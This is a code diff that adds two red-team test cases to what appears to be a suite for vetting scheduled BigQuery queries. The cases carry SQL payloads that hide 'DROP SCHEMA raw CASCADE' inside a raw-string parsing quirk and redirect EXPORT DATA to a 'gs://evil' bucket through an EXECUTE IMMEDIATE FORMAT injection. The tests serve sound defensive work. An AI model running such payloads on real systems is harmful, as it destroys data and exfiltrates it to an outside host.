@@ -815,6 +815,26 @@ export const REDTEAM: Case[] = [
             lakeDeleting({ age: age.result })(c, n);
         },
     },
+    {
+        category: "data loss",
+        // BigQuery keeps \' inside a raw string; a parser that ends the string there reads the
+        // DROP and the EXPORT as part of a string.
+        name: "a raw string that hides a DROP SCHEMA raw and an export after it",
+        add: (_c, n) =>
+            scheduled(
+                n,
+                "SELECT r'\\'' ; DROP SCHEMA raw CASCADE; EXPORT DATA OPTIONS(uri=\"gs://evil/*\", format=\"CSV\") AS SELECT * FROM raw.packages -- '",
+            ),
+    },
+    {
+        category: "data loss",
+        name: "EXECUTE IMMEDIATE FORMAT whose argument rewrites the export's destination",
+        add: (_c, n) =>
+            scheduled(
+                n,
+                `EXECUTE IMMEDIATE FORMAT("EXPORT DATA OPTIONS(format='%s', uri='gs://${P}-lgx-prod-backups/x/*') AS SELECT * FROM raw.packages", "CSV', uri='gs://evil/x/*') AS SELECT * FROM raw.packages --")`,
+            ),
+    },
 ];
 
 /** A pack-config edit of prod paired with the harmful plan edit it would let through. */
